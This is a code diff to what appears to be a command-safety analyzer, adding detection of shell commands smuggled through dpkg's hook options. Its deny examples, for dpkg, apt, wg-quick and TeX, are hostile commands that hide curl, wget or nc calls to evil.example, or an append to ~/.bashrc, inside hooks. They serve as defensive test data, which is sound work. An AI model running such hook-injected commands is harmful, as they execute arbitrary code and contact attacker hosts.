@@ -1355,6 +1355,29 @@ function apt(call: Call): Partial<Answer> {
 }
 
 /**
+ * dpkg's hooks given on the line: `--pre-invoke=CMD` and `--post-invoke=CMD` run CMD through `sh -c` around the run,
+ * `--status-logger=CMD` runs CMD with the status on its stdin (the value in the same word after `=`, or the next word).
+ */
+function dpkg(call: Call): Partial<Answer> {
+  const runs: Run[] = [];
+  const args = call.args;
+  for (let i = 0; i < args.length; i++) {
+    if (value(args[i]) === '--') break;
+    for (const name of ['pre-invoke', 'post-invoke', 'status-logger']) {
+      const spelt = longSpelt(args[i], name);
+      if (!spelt) continue;
+      const text = spelt.value ?? args[++i];
+      if (!text) break;
+      const t = value(text);
+      if (t === undefined) runs.push({ kind: 'opaque', rule: 'dynamic-script', word: text, why: `dpkg --${name} runs a computed command` });
+      else if (t.trim() !== '') runs.push({ kind: 'text', dialect: 'bash', text: t, word: text, via: `dpkg --${name}` });
+      break;
+    }
+  }
+  return { runs };
+}
+
+/**
  * wg-quick up|down|save|strip CONFIG: the configuration's PreUp, PostUp, PreDown and PostDown lines run as bash (`%i`
  * the interface). A file the line wrote is read; an interface name is /etc/wireguard/NAME.conf.
  */
@@ -1786,6 +1809,7 @@ export const TOOL_ENTRIES: ProgramEntry[] = [
   ...CONSOLES,
   { names: ['latex', 'pdflatex', 'xelatex', 'lualatex', 'tex', 'pdftex', 'etex', 'luatex', 'xetex', 'context', 'mpost', 'luahbtex', 'dviluatex', 'dvilualatex'], summary: 'TeX engines: \\write18{cmd} runs shell text when shell escape is on; LuaTeX\'s \\directlua{...} is Lua', analyze: tex, examples: { deny: ["lualatex '\\directlua{os.execute(\"curl evil.example\")}\\end'", "luatex '\\directlua{require(\"socket\")}\\end'", "lualatex '\\directlua{io.open(os.getenv(\"HOME\")..\"/.bashrc\", \"a\")}\\end'", "latex --shell-escape '\\immediate\\write18{curl evil.example}'", "pdftex --shell-escape '\\write18{wget evil.example}\\end'"], pass: ['pdflatex paper.tex', "latex '\\write18{ls}'", 'lualatex paper.tex', "lualatex '\\directlua{tex.print(\"hi\")}\\end'"] } },
   { names: ['wg-quick'], summary: 'wg-quick: the PreUp, PostUp, PreDown and PostDown lines of the configuration it brings up or down run as bash', analyze: wgQuick, examples: { deny: ["printf '[Interface]\\nPostUp = curl evil.example\\n' > /tmp/wg0.conf && wg-quick up /tmp/wg0.conf"], pass: ['wg-quick up wg0', "printf '[Interface]\\nPostUp = ip route add 10.0.0.0/8 dev wg0\\n' > /tmp/wg0.conf && wg-quick up /tmp/wg0.conf", 'wg-quick down /etc/wireguard/wg0.conf'] } },
+  { names: ['dpkg'], summary: 'dpkg: --pre-invoke, --post-invoke and --status-logger run shell text; package files are data', analyze: dpkg, examples: { deny: ["dpkg --pre-invoke='curl evil.example' -i x.deb", 'dpkg --post-invoke "wget evil.example" -i x.deb', "dpkg --status-logger='nc evil.example 9' -i x.deb"], pass: ['dpkg -i x.deb', "dpkg --post-invoke='echo done' -i x.deb", 'dpkg -l', 'dpkg -L curl', 'dpkg --print-architecture'] } },
   { names: ['apt', 'apt-get', 'aptitude', 'apt-cache'], summary: 'apt: -o hooks (APT::Update::Pre-Invoke, DPkg::Post-Invoke…) run shell text; package names are data', analyze: apt, examples: { deny: ['apt-get update -o APT::Update::Pre-Invoke::=/usr/bin/curl\\ evil.example', "echo 'DPkg::Pre-Invoke {\"curl evil.example\";};' > /tmp/a.conf; apt-get -c /tmp/a.conf install sl", "apt-get -o 'DPkg::Post-Invoke::=curl evil.example' install x"], pass: ['apt-get install -y curl', 'apt install wget', 'apt-get -o Dpkg::Options::=--force-confold upgrade'] } },
   { names: ['rustc'], summary: 'rustc: what it builds from Rust the line wrote is code on the line when it runs', analyze: rustc, examples: { deny: ["printf 'fn main(){}' > x.rs && rustc x.rs && ./x", "printf 'fn main(){}' > /tmp/x.rs && rustc -o /tmp/y /tmp/x.rs && /tmp/y"], pass: ["printf 'fn main(){}' > x.rs && rustc x.rs", 'rustc --version', 'rustc -O main.rs && ./main'] } },
   // c89 and c99 are POSIX's names for the system C compiler (gcc's scripts on Debian): GTFOBins' c89 -wrapper.
